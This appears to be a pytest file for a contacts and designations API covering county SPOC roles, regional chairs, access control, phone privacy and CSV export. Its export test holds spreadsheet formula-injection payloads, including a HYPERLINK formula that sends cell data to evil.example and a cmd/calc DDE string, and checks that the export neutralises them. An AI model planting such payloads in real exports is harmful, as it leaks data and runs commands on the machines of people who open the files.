"""Contacts and designations: who is who, per the SPOC guide."""

import csv
import datetime as dt
import io
import uuid

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from tests.conftest import Mint, assert_problem, auth
from tests.factories import make_account


@pytest.fixture
def office(mint: Mint) -> str:
    return mint(roles=["office_admin"], name="office.admin")


async def add(client: httpx.AsyncClient, token: str, **fields: object) -> dict:
    body = {"name": f"Person {uuid.uuid4().hex[:6]}", **fields}
    reply = await client.post("/api/v1/contacts", json=body, headers=auth(token))
    assert reply.status_code == 201, reply.text
    return reply.json()


async def designate(
    client: httpx.AsyncClient, token: str, contact: dict, **body: object
) -> httpx.Response:
    return await client.post(
        f"/api/v1/contacts/{contact['id']}/designations", json=body, headers=auth(token)
    )


async def rug_meeting(client: httpx.AsyncClient, committee: str = "rug_bay_area") -> dict:
    """A calendar entry for a regional user group: only its regional chair (or the office)
    keeps it."""
    committees = {
        c["code"]: c["id"]
        for c in (await client.get("/api/v1/committees?limit=50")).json()["items"]
    }
    return {
        "kind": "meeting",
        "title": "Bay Area RUG",
        "starts_at": "2027-02-04T18:00:00Z",
        "ends_at": "2027-02-04T20:00:00Z",
        "committee_id": committees[committee],
    }


class TestContactsMatrix:
    async def test_reading_needs_a_token(self, client: httpx.AsyncClient) -> None:
        assert_problem(await client.get("/api/v1/contacts"), 401)
        assert_problem(await client.get(f"/api/v1/contacts/{uuid.uuid4()}"), 401)
        assert_problem(await client.get("/api/v1/counties/06067/contacts"), 401)
        assert_problem(await client.get("/api/v1/counties/06067/ssc"), 401)

    @pytest.mark.parametrize(
        ("roles", "county"),
        [(["county_user"], "06025"), (["county_admin"], "06019"), (["ssc"], None)],
    )
    async def test_adding_others_people_403(
        self, client: httpx.AsyncClient, mint: Mint, roles: list, county: str | None
    ) -> None:
        token = mint(roles=roles, county=county)
        reply = await client.post(
            "/api/v1/contacts", json={"name": "X", "county": "06025"}, headers=auth(token)
        )
        assert_problem(reply, 403)

    @pytest.mark.parametrize(
        ("body", "field"),
        [
            ({"name": ""}, "name"),
            ({"name": "X", "email": "nope"}, "email"),
            ({"name": "X", "phone": "call"}, "phone"),
            ({"name": "X", "county": "06999"}, "county"),
        ],
    )
    async def test_bad_input_422(
        self, client: httpx.AsyncClient, office: str, body: dict, field: str
    ) -> None:
        reply = await client.post("/api/v1/contacts", json=body, headers=auth(office))
        assert field in {e["field"] for e in assert_problem(reply, 422)["errors"]}

    async def test_unknown_contact_404(self, client: httpx.AsyncClient, mint: Mint) -> None:
        assert_problem(
            await client.get(f"/api/v1/contacts/{uuid.uuid4()}", headers=auth(mint())), 404
        )

    async def test_edit_with_if_match(self, client: httpx.AsyncClient, office: str) -> None:
        person = await add(client, office, county="06025")
        url = f"/api/v1/contacts/{person['id']}"
        assert_problem(await client.patch(url, json={"title": "SPOC"}, headers=auth(office)), 428)
        assert_problem(
            await client.patch(
                url, json={"title": "SPOC"}, headers={**auth(office), "If-Match": '"7"'}
            ),
            412,
        )
        etag = (await client.get(url, headers=auth(office))).headers["etag"]
        edited = await client.patch(
            url, json={"title": "SPOC"}, headers={**auth(office), "If-Match": etag}
        )
        assert edited.json()["title"] == "SPOC"


class TestSpoc:
    async def test_one_current_spoc_with_history(
        self, client: httpx.AsyncClient, mint: Mint
    ) -> None:
        admin = mint(roles=["county_admin"], county="06027")
        first = await add(client, admin, county="06027")
        second = await add(client, admin, county="06027")
        assert (await designate(client, admin, first, kind="spoc")).status_code == 201
        assert (await designate(client, admin, second, kind="spoc")).status_code == 201
        reader = mint(county="06019")
        current = await client.get(
            "/api/v1/contacts",
            headers=auth(reader),
            params={"county": "06027", "designation": "spoc"},
        )
        assert [c["id"] for c in current.json()["items"]] == [second["id"]]
        history = await client.get(f"/api/v1/contacts/{first['id']}", headers=auth(reader))
        ended = history.json()["designations"][0]
        assert ended["kind"] == "spoc" and ended["ended_on"] == dt.date.today().isoformat()
        both = await client.get(
            "/api/v1/contacts",
            headers=auth(reader),
            params={"county": "06027", "designation": "spoc", "include_ended": "true"},
        )
        assert {c["id"] for c in both.json()["items"]} == {first["id"], second["id"]}

    async def test_county_roles_need_a_county_person_and_the_right_admin(
        self, client: httpx.AsyncClient, mint: Mint, office: str
    ) -> None:
        office_person = await add(client, office)
        reply = await designate(client, office, office_person, kind="spoc")
        assert assert_problem(reply, 422)["errors"][0]["field"] == "kind"
        person = await add(client, office, county="06029")
        other_admin = mint(roles=["county_admin"], county="06019")
        assert_problem(await designate(client, other_admin, person, kind="web_admin"), 403)
        own_admin = mint(roles=["county_admin"], county="06029")
        assert_problem(
            await designate(client, own_admin, person, kind="ssc", region="central_valley"), 403
        )

    async def test_state_admin_needs_the_directors_letter(
        self, client: httpx.AsyncClient, office: str
    ) -> None:
        person = await add(client, office, county="06029")
        missing = await designate(client, office, person, kind="state_admin")
        assert assert_problem(missing, 422)["errors"][0]["field"] == "director_letter_on"
        ok = await designate(
            client, office, person, kind="state_admin", director_letter_on="2026-10-01"
        )
        assert ok.json()["director_letter_on"] == "2026-10-01"

    async def test_ending_a_designation(self, client: httpx.AsyncClient, office: str) -> None:
        person = await add(client, office, county="06029")
        made = (await designate(client, office, person, kind="sbc_admin")).json()
        url = f"/api/v1/contacts/{person['id']}/designations/{made['id']}"
        assert (await client.delete(url, headers=auth(office))).status_code == 204
        assert_problem(await client.delete(url, headers=auth(office)), 409)
        assert_problem(
            await client.delete(
                f"/api/v1/contacts/{person['id']}/designations/{uuid.uuid4()}", headers=auth(office)
            ),
            404,
        )


class TestSsc:
    async def test_region_ssc_and_county_override(
        self, client: httpx.AsyncClient, office: str, mint: Mint
    ) -> None:
        regional = await add(client, office, name="Regional SSC")
        marin = await add(client, office, name="Marin SSC")
        assert (await designate(client, office, regional, kind="ssc", region="bay_area")).is_success
        assert (
            await designate(
                client, office, marin, kind="ssc", region="bay_area", counties=["06041"]
            )
        ).is_success
        reader = mint()
        for fips, expected in (("06041", marin["id"]), ("06001", regional["id"])):
            reply = await client.get(f"/api/v1/counties/{fips}/ssc", headers=auth(reader))
            assert reply.json()["id"] == expected
        bay_area = (await client.get("/api/v1/regions", headers=auth(reader))).json()["items"]
        region_id = next(r["id"] for r in bay_area if r["code"] == "bay_area")
        detail = (await client.get(f"/api/v1/regions/{region_id}", headers=auth(reader))).json()
        assert {regional["id"], marin["id"]} <= {s["id"] for s in detail["sscs"]}
        none = await client.get("/api/v1/counties/06073/ssc", headers=auth(reader))
        assert "No SSC" in assert_problem(none, 404)["detail"]
        county_person = await add(client, office, county="06001")
        reply = await designate(client, office, county_person, kind="ssc", region="bay_area")
        assert_problem(reply, 422)


class TestRegionalChair:
    async def test_chair_comes_from_the_region_and_keeps_its_user_group(
        self, client: httpx.AsyncClient, session: AsyncSession, office: str, mint: Mint
    ) -> None:
        account = await make_account(session, county_fips="06013", roles=["county_admin"])
        await session.commit()
        account_id = str(account.id)
        chair = await add(client, office, county="06013")  # Contra Costa: Bay Area
        wrong = await designate(client, office, chair, kind="regional_chair", region="southern")
        assert assert_problem(wrong, 422)["errors"][0]["field"] == "region"
        assert (
            await designate(client, office, chair, kind="regional_chair", region="bay_area")
        ).status_code == 201
        entry = await rug_meeting(client)
        admin = mint(roles=["county_admin"], county="06013", sub=account_id)
        not_yet = await client.post(
            "/api/v1/calendars/events/entries", json=entry, headers=auth(admin)
        )
        assert_problem(not_yet, 403)  # not linked to the chair's contact yet
        etag = (await client.get(f"/api/v1/contacts/{chair['id']}", headers=auth(office))).headers[
            "etag"
        ]
        unknown = await client.patch(
            f"/api/v1/contacts/{chair['id']}",
            json={"account_id": str(uuid.uuid4())},
            headers={**auth(office), "If-Match": etag},
        )
        assert assert_problem(unknown, 422)["errors"][0]["field"] == "account_id"
        await client.patch(
            f"/api/v1/contacts/{chair['id']}",
            json={"account_id": account_id},
            headers={**auth(office), "If-Match": etag},
        )
        made = await client.post(
            "/api/v1/calendars/events/entries", json=entry, headers=auth(admin)
        )
        assert made.status_code == 201, made.text
        southern = await rug_meeting(client, "rug_southern")
        assert_problem(
            await client.post(
                "/api/v1/calendars/events/entries", json=southern, headers=auth(admin)
            ),
            403,
        )
        plain = {k: v for k, v in entry.items() if k != "committee_id"}
        assert_problem(
            await client.post("/api/v1/calendars/events/entries", json=plain, headers=auth(admin)),
            403,
        )


class TestPrivacyAndExport:
    async def test_personal_phone_for_office_and_own_county_only(
        self, client: httpx.AsyncClient, office: str, mint: Mint
    ) -> None:
        person = await add(
            client, office, county="06031", personal_phone="(559) 555-0101", phone="(559) 555-0100"
        )
        url = f"/api/v1/contacts/{person['id']}"
        for token, visible in (
            (mint(county="06031"), True),
            (mint(county="06019"), False),
            (mint(roles=["ssc"]), True),
            (office, True),
            (mint(roles=["helpdesk"], kind="client"), False),
        ):
            shown = (await client.get(url, headers=auth(token))).json()
            assert shown["phone"] == "(559) 555-0100"
            assert (shown["personal_phone"] == "(559) 555-0101") is visible

    async def test_csv_export_is_for_the_office(
        self, client: httpx.AsyncClient, office: str, mint: Mint
    ) -> None:
        person = await add(client, office, county="06033", name="Lake County SPOC")
        await designate(client, office, person, kind="spoc")
        denied = await client.get(
            "/api/v1/contacts", headers={**auth(mint(county="06033")), "Accept": "text/csv"}
        )
        assert_problem(denied, 403)
        reply = await client.get(
            "/api/v1/contacts",
            params={"county": "06033"},
            headers={**auth(office), "Accept": "text/csv"},
        )
        assert reply.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(reply.text)))
        assert [r["name"] for r in rows] == ["Lake County SPOC"]
        assert rows[0]["designations"] == "spoc:06033"


class TestLinkingAnAccount:
    """A contact's account_id is a person's logon: only an account the caller administers may
    be linked, and the refusal does not say whether an id exists."""

    async def test_only_accounts_you_administer(
        self, client: httpx.AsyncClient, session: AsyncSession, office: str, mint: Mint
    ) -> None:
        own = await make_account(session, county_fips="06035", perms=["mac"])
        richer = await make_account(session, county_fips="06035", perms=["mac", "linkages"])
        fresno = await make_account(session, county_fips="06019", perms=["mac"])
        office_account = await make_account(
            session, county_fips=None, roles=["office_admin"], perms=[]
        )
        await session.commit()
        admin = mint(roles=["county_admin"], county="06035", perms=["mac", "ddr"])
        person = await add(client, admin, county="06035")
        url = f"/api/v1/contacts/{person['id']}"
        refusals = []
        for account_id in (uuid.uuid4(), fresno.id, office_account.id, richer.id):
            tag = (await client.get(url, headers=auth(admin))).headers["etag"]
            reply = await client.patch(
                url, json={"account_id": str(account_id)}, headers={**auth(admin), "If-Match": tag}
            )
            problem = assert_problem(reply, 422)
            refusals.append((problem["title"], problem["detail"], problem["errors"]))
            created = await client.post(
                "/api/v1/contacts",
                json={"name": "Linked", "county": "06035", "account_id": str(account_id)},
                headers=auth(admin),
            )
            assert_problem(created, 422)
        assert len(set(map(str, refusals))) == 1, refusals
        assert refusals[0][2][0]["field"] == "account_id"
        tag = (await client.get(url, headers=auth(admin))).headers["etag"]
        linked = await client.patch(
            url, json={"account_id": str(own.id)}, headers={**auth(admin), "If-Match": tag}
        )
        assert linked.status_code == 200 and linked.json()["account_id"] == str(own.id)
        staff = await add(client, office, account_id=str(office_account.id))
        assert staff["account_id"] == str(office_account.id)

    async def test_a_county_admin_cannot_take_over_its_regional_chair(
        self, client: httpx.AsyncClient, session: AsyncSession, office: str, mint: Mint
    ) -> None:
        me = await make_account(session, county_fips="06097", roles=["county_admin"], perms=[])
        await session.commit()
        admin = mint(roles=["county_admin"], county="06097", sub=str(me.id))
        chair = await add(client, office, county="06097")  # Sonoma: Bay Area
        assert (
            await designate(client, office, chair, kind="regional_chair", region="bay_area")
        ).status_code == 201
        url = f"/api/v1/contacts/{chair['id']}"
        tag = (await client.get(url, headers=auth(admin))).headers["etag"]
        reply = await client.patch(
            url, json={"account_id": str(me.id)}, headers={**auth(admin), "If-Match": tag}
        )
        assert "regional_chair" in assert_problem(reply, 403)["detail"]
        edited = await client.patch(
            url, json={"title": "Chair"}, headers={**auth(admin), "If-Match": tag}
        )
        assert edited.status_code == 200 and edited.json()["account_id"] is None
        entry = await rug_meeting(client)
        taken = await client.post(
            "/api/v1/calendars/events/entries", json=entry, headers=auth(admin)
        )
        assert_problem(taken, 403)


class TestCsvExportIsData:
    @pytest.mark.parametrize(
        "fields",
        [
            {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click me")'},
            {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
            {"name": "Tab", "title": "\t=1+1"},
            {"name": "Carriage", "title": "\r=1+1"},
            {"name": "Plus", "phone": "+1 916 555 0100"},
            {"name": "Minus", "phone": "-1-916-555-0100"},
            {"name": "Mail", "email": "=1+2@evil.example"},
        ],
    )
    async def test_hostile_cells_are_written_as_text(
        self, client: httpx.AsyncClient, office: str, fields: dict
    ) -> None:
        person = await add(client, office, county="06043", **fields)
        reply = await client.get(
            "/api/v1/contacts",
            params={"q": person["name"][:60]},
            headers={**auth(office), "Accept": "text/csv"},
        )
        rows = [r for r in csv.DictReader(io.StringIO(reply.text)) if r["county"] == "06043"]
        row = next(r for r in rows if r["name"].lstrip("'") == person["name"])
        for key, value in fields.items():
            if value[0] in "=+-@\t\r":
                assert row[key] == "'" + value, row
            else:
                assert row[key] == value


class TestWhoReadsContacts:
    """Work details of every county's people are for every person, the help desk and the
    services; a county system reads its own county's people and the office's; personal
    phones are for people of the office and of the same county, never for a system."""

    async def test_the_choice(self, client: httpx.AsyncClient, office: str, mint: Mint) -> None:
        butte = (await add(client, office, county="06007", personal_phone="(530) 555-0101"))["id"]
        glenn = (await add(client, office, county="06021", personal_phone="(530) 555-0102"))["id"]
        staff = (await add(client, office, personal_phone="(916) 555-0103"))["id"]
        chair = await designate(
            client, office, {"id": glenn}, kind="regional_chair", region="northern"
        )
        assert chair.status_code == 201
        regions = (await client.get("/api/v1/regions", headers=auth(office))).json()["items"]
        northern = next(r["id"] for r in regions if r["code"] == "northern")
        readers = {
            "person of another county": (mint(county="06019"), {butte, glenn, staff}, set()),
            "person of the county": (mint(county="06007"), {butte, glenn, staff}, {butte}),
            "help desk": (
                mint(kind="client", roles=["helpdesk"], perms=["ddr"]),
                {butte, glenn, staff},
                set(),
            ),
            "service": (mint(kind="client", roles=["service"]), {butte, glenn, staff}, set()),
            "butte's system": (
                mint(kind="client", roles=["county_system"], county="06007"),
                {butte, staff},
                set(),
            ),
        }
        for who, (token, sees, phones) in readers.items():
            for contact in (butte, glenn, staff):
                reply = await client.get(f"/api/v1/contacts/{contact}", headers=auth(token))
                if contact in sees:
                    assert reply.status_code == 200, who
                    shown = reply.json()["personal_phone"] is not None
                    assert shown is (contact in phones), who
                else:
                    assert_problem(reply, 404)
            listed = await client.get(
                "/api/v1/contacts",
                params={"q": "Person", "limit": 500, "county": "06021"},
                headers=auth(token),
            )
            assert (glenn in {c["id"] for c in listed.json()["items"]}) is (glenn in sees)
            county = await client.get("/api/v1/counties/06021/contacts", headers=auth(token))
            assert (glenn in {c["id"] for c in county.json()["items"]}) is (glenn in sees)
            region = await client.get(f"/api/v1/regions/{northern}", headers=auth(token))
            shown_chair = region.json()["regional_chair"]
            assert (shown_chair is not None and shown_chair["id"] == glenn) is (glenn in sees)
